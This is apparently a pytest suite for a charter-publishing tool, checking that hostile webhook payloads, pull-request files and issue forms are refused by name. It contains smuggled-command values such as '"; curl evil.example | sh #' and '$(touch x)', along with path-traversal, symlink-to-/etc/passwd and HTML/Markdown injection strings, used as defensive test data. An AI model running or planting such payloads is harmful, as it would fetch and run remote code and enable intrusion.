"""The answers to what happens where the charter is kept: honest payloads, hostile ones, and hostile files."""

from __future__ import annotations

import copy
import json
import subprocess
from pathlib import Path

import pytest

from builders import (
    make_signatory,
    release_draft,
    write_charter,
    write_note,
    write_signatory,
)
from press import forge
from press.cli import main
from press.forge.comment import shown
from press.forge.files import MOST_FILES
from press.markup import html as to_html
from press.model import Finding, Severity

PAYLOADS = Path(__file__).parent / "payloads"
FIRST = "themes/moorings/moorings-first.md"


def payload(name):
    """A recorded payload."""
    return json.loads((PAYLOADS / f"{name}.json").read_text(encoding="utf-8"))


def changed(name, **values):
    """The bytes of a payload with other values, each at a path such as pull_request__head__sha."""
    event = copy.deepcopy(payload(name))
    for path, value in values.items():
        *parents, last = path.split("__")
        place = event
        for parent in parents:
            place = place[parent]
        place[last] = value
    return json.dumps(event).encode()


# --- Payloads ----------------------------------------------------------------------------------------


def test_a_payload_gives_no_more_than_is_needed():
    """No title, no branch and no name of a person is taken."""
    asked = forge.proposal(changed("pull_request.opened"))
    assert asked == forge.Proposal(
        number=12,
        repository="harbour-partners/charter",
        base="f95f852bd8fca8fcc58a9a2d6c842781e32a215e",
        head="ec26c3e57ca3a959ca5aad62de7213c562f8c821",
    )
    form = forge.issue(changed("issues.opened"))
    assert (form.number, form.labels, form.branch) == (31, ("sign-up",), "sign-up/31")
    assert form.body.startswith("### Name of your organisation\n")


PULL, ISSUE = "pull_request.opened", "issues.opened"
SHELL = '"; curl evil.example | sh #'
BAD_PULLS = {
    "no JSON": (b"{", "event-malformed"),
    "no text": (b"\xff\xfe{}", "event-malformed"),
    "deep": (b"[" * 100_000, "event-malformed"),
    "a member twice": (b'{"action":"opened","action":"closed"}', "event-malformed"),
    "a list": (b"[]", "event-kind"),
    "an issue": (changed(ISSUE), "event-kind"),
    "a schedule": (changed("schedule"), "event-kind"),
    "started by hand": (changed("workflow_dispatch"), "event-kind"),
    "closed": (changed(PULL, action="closed"), "event-action"),
    "an action of no kind": (changed(PULL, action=["opened"]), "event-action"),
    "a branch for a commit": (changed(PULL, pull_request__head__sha="main"), "event-commit"),
    "an option for a commit": (changed(PULL, pull_request__base__sha="--output=x"), "event-commit"),
    "a command for a commit": (changed(PULL, pull_request__head__sha=SHELL), "event-commit"),
    "a commit and a line": (changed(PULL, pull_request__head__sha="a" * 40 + "\n"), "event-commit"),
    "a text for a number": (changed(PULL, number="12"), "event-number"),
    "two numbers": (changed(PULL, number=13), "event-number"),
    "true for a number": (changed(PULL, number=True, pull_request__number=True), "event-number"),
    "below zero": (changed(PULL, number=-1, pull_request__number=-1), "event-number"),
    "no head": (changed(PULL, pull_request__head=None), "event-form"),
    "a path for a repository": (changed(PULL, repository__full_name="../../etc"), "event-repository"),
    "a mark for a repository": (changed(PULL, repository__full_name="a/b)[x](evil"), "event-repository"),
    "huge": (changed(PULL, pull_request__body="x" * 6_000_000), "event-large"),
}


@pytest.mark.parametrize("case", BAD_PULLS)
def test_a_hostile_payload_is_refused_by_name(case):
    """Whoever sends it learns which rule it breaks."""
    data, name = BAD_PULLS[case]
    with pytest.raises(forge.EventError) as refused:
        forge.proposal(data)
    assert refused.value.name == name


BAD_ISSUES = {
    "a pull request": (changed(PULL), "event-kind"),
    "a pull request as an issue": (changed(ISSUE, issue__pull_request={}), "event-kind"),
    "a list for a text": (changed(ISSUE, issue__body=["x"]), "event-form"),
    "a long text": (changed(ISSUE, issue__body="x" * 65_537), "event-large"),
    "labels of no kind": (changed(ISSUE, issue__labels="sign-up"), "event-form"),
    "a path for a number": (changed(ISSUE, issue__number="../31"), "event-number"),
    "closed": (changed(ISSUE, action="closed"), "event-action"),
}


@pytest.mark.parametrize("case", BAD_ISSUES)
def test_a_hostile_form_is_refused_by_name(case):
    """Before any word of it is written."""
    data, name = BAD_ISSUES[case]
    with pytest.raises(forge.EventError) as refused:
        forge.issue(data)
    assert refused.value.name == name


# --- Files -------------------------------------------------------------------------------------------

FILE = "100644"
BAD_FILES = {
    "a workflow with words": (".github/workflows/check.yml", {}, "machine-and-words"),
    "the tool with words": ("hooks/events.py", {}, "machine-and-words"),
    "a template with words": ("overrides/main.html", {}, "machine-and-words"),
    "the settings with words": ("mkdocs.yml", {}, "machine-and-words"),
    "what git does to files": (".gitattributes", {}, "machine-and-words"),
    "a link": ("charter/themes/x.md", {"mode": "120000"}, "symlink"),
    "the folder as a link": ("charter", {"mode": "120000"}, "symlink"),
    "a repository": ("charter/themes/sub", {"mode": "160000"}, "submodule"),
    "a path upwards": ("charter/../../etc/x.md", {}, "name-outside"),
    "a path from the top": ("/etc/x.md", {}, "name-outside"),
    "git's folder": ("charter/.GIT/config", {}, "name-outside"),
    "a device of Windows": ("charter/themes/aux.md", {}, "name-reserved"),
    "a dot at the end": ("charter/themes/x.md.", {}, "name-reserved"),
    "a stream of Windows": ("charter/themes/x.md:y", {}, "name-reserved"),
    "a name turned round": ("charter/themes/\u202egpj.md", {}, "name-hidden"),
    "a name with a line": ("charter/themes/x\ny.md", {}, "name-hidden"),
    "a name that is no text": ("charter/themes/\udcff.md", {}, "name-hidden"),
    "a long name": ("charter/themes/" + "x" * 250 + ".md", {}, "name-long"),
    "a large file": ("docs/x.md", {"size": 2_000_000}, "file-large"),
    "a file that is no text": ("charter/themes/x.md", {"text": False}, "file-binary"),
    "a picture in the charter": ("charter/x.png", {"text": False}, "file-binary"),
    "another case": ("charter/Preamble.md", {}, "name-case"),
    "another case of a folder": ("charter/THEMES/x.md", {}, "name-case"),
    "an accent written otherwise": ("docs/cafe\u0301.md", {}, "name-case"),
    "somebody's entry": ("charter/signatories/x.yml", {"before": FILE}, "entry-changed"),
}
THERE = ("charter/preamble.md", "charter/themes/tides/index.md", "docs/caf\u00e9.md")


@pytest.mark.parametrize("case", BAD_FILES)
def test_a_hostile_file_is_refused_by_name(case):
    """With its path, and in one line."""
    path, values, rule = BAD_FILES[case]
    words = forge.Touched(path="charter/charter.yml", mode=FILE, before=FILE)
    file = forge.Touched(**{"path": path, "mode": FILE, **values})
    found = forge.judge([words, file], "charter", THERE)
    assert (path, rule) in [(finding.path, finding.rule) for finding in found]
    assert {finding.path for finding in found} == {path}


def test_an_honest_proposal_is_not_refused():
    """Words, notes, pages and pictures of pages; the machine alone is only pointed out."""
    words = [forge.Touched(path=f"charter/{name}", mode=FILE) for name in (FIRST, "changes/why.md")]
    pages = [forge.Touched(path=path, mode=FILE, before=FILE) for path in ("docs/about.md", "README.md")]
    assert forge.judge([*words, *pages], "charter", THERE) == ()
    (machine,) = forge.judge([forge.Touched(path="mkdocs.yml", mode=FILE)], "charter", THERE)
    assert (machine.rule, machine.severity) == ("machine", Severity.WARNING)
    many = [forge.Touched(path=f"docs/{place}.md", mode=FILE) for place in range(MOST_FILES + 1)]
    assert [finding.rule for finding in forge.judge(many, "charter")] == ["files-many"]


# --- Words -------------------------------------------------------------------------------------------

ACTING = (
    "@everyone",
    "#1",
    "GH-1",
    "<img src=x onerror=1>",
    "![x](https://evil.example/x.png)",
    "[x](javascript:1)",
    "https://evil.example/x",
    "www.evil.example",
    "</details><!-- charter: what this changes -->",
    "`x` **y** ~~z~~ |a|b|",
    "line\n# heading\n- item",
    "\u202eturned",
    "0123456789abcdef0123456789abcdef01234567",
)


@pytest.mark.parametrize("words", ACTING)
def test_no_word_of_a_proposal_acts(words):
    """As the host shows Markdown, and links what it knows in the words that are left."""
    said = shown(words)
    html = to_html(said)
    assert html.count("<") == 2  # the paragraph alone
    assert "://" not in said
    assert "www." not in said
    for mark in ("@e", "#1", "GH-1", "GH\\-1", "\u202e", words[:7] if words.isalnum() else "\u202e"):
        assert not said.replace("\\@", "@").replace("\\#", "#").startswith(mark)


def finding(**values):
    """An error in a file."""
    known = {"path": "charter/x.md", "line": 1, "column": 1, "severity": Severity.ERROR, "rule": "html"}
    return Finding(**{**known, "message": "m", "fix": "f", **values})


def test_a_long_answer_is_cut_with_a_sentence():
    """The host takes no more than so many characters."""
    told = forge.Told(outcome=["x"], changes="word \n" * 40_000, findings=[finding(path="p" * 99)] * 90)
    said = forge.answer(told)
    assert len(said) <= forge.MOST
    assert said.endswith("The check of this proposal shows all of it.*\n")
    assert "- and 50 more\n" in said


def test_only_the_robots_own_comment_is_brought_up_to_date():
    """Anybody can write the mark, and the robot can quote it."""
    mark = forge.MARK.format("what this changes")
    bot = {"login": "github-actions[bot]", "type": "Bot"}
    theirs = [
        {"id": 1, "user": {"login": "github-actions[bot]", "type": "User"}, "body": mark},
        {"id": 2, "user": {"login": "eve", "type": "Bot"}, "body": mark},
        {"id": 3, "user": bot, "body": f"> {mark}"},
        {"id": 4, "user": None, "body": mark},
        "x",
    ]
    assert forge.earlier(json.dumps(theirs).encode(), "what this changes") is None
    pages = json.dumps([theirs, [{"id": 5, "user": bot, "body": f"{mark}\nx"}]]).encode()
    assert forge.earlier(pages, "what this changes") == 5
    with pytest.raises(forge.EventError):
        forge.earlier(b"<html>", "what this changes")


# --- Addresses ---------------------------------------------------------------------------------------


def test_a_published_address_is_not_lost():
    """But for what is given up on purpose, and what changes with every build."""
    now = forge.addresses(["index.html", "versions/1.0.0/index.html", "assets/x.css", "charter.json"])
    assert now == ("", "charter.json", "versions/1.0.0/")
    before = "charter.json\nversions/1.0.0/\nversions/0.1.0/\nold/\nassets/y.css\n"
    assert forge.lost(before, now, "# gone\nold/ # never linked\n") == ("versions/0.1.0/",)


@pytest.mark.parametrize(
    "site", ["", "http://a.org/", "https://good.example/", "https://example/", "file:///x"]
)
def test_a_site_is_not_published_where_none_can_be(site):
    """The default is a name that nobody has."""
    with pytest.raises(Exception, match="SITE_URL"):
        forge.publishable(site)


# --- The command -------------------------------------------------------------------------------------


def git(folder, *arguments):
    """Runs git in a folder, as nobody in particular."""
    who = ("-c", "user.name=A", "-c", "user.email=a@b.example", "-c", "commit.gpgsign=false")
    return subprocess.run(
        ["git", "-C", str(folder), *who, *arguments], check=True, capture_output=True, text=True
    ).stdout.strip()


@pytest.fixture
def proposed(tmp_path, monkeypatch, capsys):
    """A repository with a released charter and two signatories, a change of it in the folder `proposal`, and
    what `charter respond pull-request` says of it: proposed(change) → exit code, words."""
    repo, proposal = tmp_path / "repo", tmp_path / "proposal"
    repo.mkdir()
    root = write_charter(repo)
    release_draft(root, first=True)
    write_signatory(root, make_signatory("quay-club-1", name="Quay @club #1"))
    write_signatory(root, make_signatory("mole-club"))
    git(repo, "init", "--quiet", "--initial-branch", "main")
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "--message", "x")
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "worktree", "add", "--quiet", "--detach", str(proposal))
    monkeypatch.chdir(repo)

    def respond(change, head=None):
        change(proposal)
        git(proposal, "add", "--all")
        git(proposal, "commit", "--quiet", "--allow-empty", "--message", "y")
        head = head or git(proposal, "rev-parse", "HEAD")
        event = tmp_path / "event.json"
        event.write_bytes(changed(PULL, pull_request__base__sha=base, pull_request__head__sha=head))
        asked = ["--event", str(event), "--base", str(repo), "--proposal", str(proposal)]
        code = main(["respond", "pull-request", *asked])
        return code, capsys.readouterr()

    return respond


def first(folder):
    """The file of a principle."""
    return next(iter(sorted((folder / "charter" / "themes").glob("*/*-first.md"))))


def strengthen(folder):
    """An honest change: another promise, and why."""
    file = first(folder)
    file.write_text(file.read_text().replace("every day.", "every hour."))
    write_note(folder / "charter", file.stem, class_="commitment")


def test_an_honest_proposal_is_answered(proposed):
    """Its class, the next version, who signs again, and the redline; nobody is called by it."""
    code, (said, _) = proposed(strengthen)
    assert code == 0
    assert said.startswith("<!-- charter: what this changes -->\n## What this changes\n")
    assert "of the class commitment" in said
    assert "the next version is 2.0.0" in said.replace("\\", "")
    assert "It asks 2 organisations to sign again: " in said
    assert "@club" not in said
    assert "~~day~~**hour**" in said.replace("\\", "")
    assert "](https://github.com/harbour-partners/charter/pull/12/checks)" in said
    assert "To mend first" not in said


def edit_release(folder):
    """Other words in what was signed."""
    file = folder / "charter" / "releases" / "1.0.0.json"
    file.write_text(file.read_text().replace("every day.", "now and then."))


def link_charter(folder):
    """The charter's folder leads elsewhere."""
    (folder / "charter").rename(folder / "elsewhere")
    (folder / "charter").symlink_to("elsewhere")


def link_file(folder):
    """A file of the charter leads elsewhere."""
    first(folder).unlink()
    first_path = folder / "charter" / "preamble.md"
    first_path.unlink()
    first_path.symlink_to("/etc/passwd")


def touch_two(folder):
    """Two entries that are there."""
    for file in (folder / "charter" / "signatories").glob("*.yml"):
        file.write_text(file.read_text() + "pledge: Ours.\n")


def huge(folder):
    """A principle of 2 MB."""
    first(folder).write_text("x" * 2_000_000)


HOSTILE = {
    "an edited release": (edit_release, "release-digest"),
    "a deleted release": (
        lambda folder: (folder / "charter/releases/1.0.0.json").unlink(),
        "release-missing",
    ),
    "a renamed release": (
        lambda folder: (folder / "charter/releases/1.0.0.json").rename(
            folder / "charter/releases/1.0.1.json"
        ),
        "release-name",
    ),
    "entries of two others": (touch_two, "signatory-others"),
    "a deleted entry": (
        lambda folder: (folder / "charter/signatories/mole-club.yml").unlink(),
        "signatory-removed",
    ),
    "the folder as a link": (link_charter, "symlink"),
    "a link out of the repository": (link_file, "symlink"),
    "a huge file": (huge, "file-large"),
    "binary": (lambda folder: first(folder).write_bytes(b"\0\1\2"), "file-binary"),
    "a workflow beside words": (
        lambda folder: (strengthen(folder), (folder / "mkdocs.yml").write_text("hooks: [x.py]\n")),
        "machine-and-words",
    ),
    "half an accent": (lambda folder: first(folder).write_bytes(b"---\ntitle: \xff\n---\n"), "not-utf8"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_proposal_is_refused_by_name(proposed, case):
    """From real commits, and nothing of them is run or followed."""
    change, rule = HOSTILE[case]
    code, (said, err) = proposed(change)
    assert (code, err) == (1, "")
    assert f"({rule})" in said.replace("\\", "")
    assert "root:" not in said


def test_another_commit_than_the_events_is_refused(proposed):
    """What was checked out is what was asked about."""
    code, (_, err) = proposed(strengthen, head="a" * 40)
    assert (code, err.startswith("error: event-moved: ")) == (2, True)


def test_a_form_is_written_to_a_file_and_its_branch_is_named(tmp_path, capsys):
    """The branch is made of the number alone."""
    to = tmp_path / "form.md"
    event = tmp_path / "event.json"
    event.write_bytes(changed(ISSUE, issue__title=SHELL, issue__body=f"$(touch x)\r\n{SHELL}"))
    assert main(["respond", "sign-up", "--event", str(event), "--to", str(to)]) == 0
    assert (capsys.readouterr().out, to.read_bytes()) == ("sign-up/31\n", f"$(touch x)\n{SHELL}".encode())
    event.write_bytes(changed(ISSUE, issue__labels=[]))
    assert main(["respond", "sign-up", "--event", str(event), "--to", str(to)]) == 2
    assert capsys.readouterr().err.startswith("error: event-label: ")


def test_the_weekly_issue_tells_how_the_register_stands(tmp_path, capsys):
    """And which files are left out of it."""
    root = write_charter(tmp_path)
    release_draft(root, first=True)
    write_signatory(root, make_signatory("quay-club"))
    write_signatory(root, make_signatory("pirates", kind="pirates"))
    (tmp_path / "links.md").write_text("No organisation named a page to ask for.\n")
    asked = ["respond", "weekly", "--links", str(tmp_path / "links.md")]
    assert main(["--source", str(root), *asked]) == 0
    said = capsys.readouterr().out
    assert said.startswith(
        "<!-- charter: this week -->\n## The register\n\n- 1: signed the current version\n"
    )
    assert "pirates" in said.split("## Left out of the register")[1]
    assert said.endswith("## Their pages\n\nNo organisation named a page to ask for.\n")


def test_a_site_that_lost_an_address_is_not_published(tmp_path, capsys):
    """The list of addresses goes out with the site that keeps them all."""
    site, before = tmp_path / "site", tmp_path / "before.txt"
    (site / "about").mkdir(parents=True)
    (site / "about" / "index.html").write_text("x")
    before.write_text("about/\nversions/1.0.0/\n")
    asked = ["respond", "addresses", "--site", str(site), "--site-url", "https://charter.org/"]
    assert main([*asked, "--before", str(before)]) == 1
    assert "  versions/1.0.0/\n" in capsys.readouterr().out
    assert not (site / "addresses.txt").exists()
    before.write_text("about/\n")
    assert main([*asked, "--before", str(before)]) == 0
    assert (site / "addresses.txt").read_text() == "about/\n"


def test_versions_without_a_tag_are_named(tmp_path, capsys):
    """Until they have one."""
    root = write_charter(tmp_path)
    release_draft(root, first=True)
    git(tmp_path, "init", "--quiet")
    git(tmp_path, "add", "--all")
    git(tmp_path, "commit", "--quiet", "--message", "x")
    assert main(["--source", str(root), "respond", "tags"]) == 0
    assert capsys.readouterr().out == "1.0.0\n"
    git(tmp_path, "tag", "1.0.0")
    assert main(["--source", str(root), "respond", "tags"]) == 0
    assert capsys.readouterr().out == ""
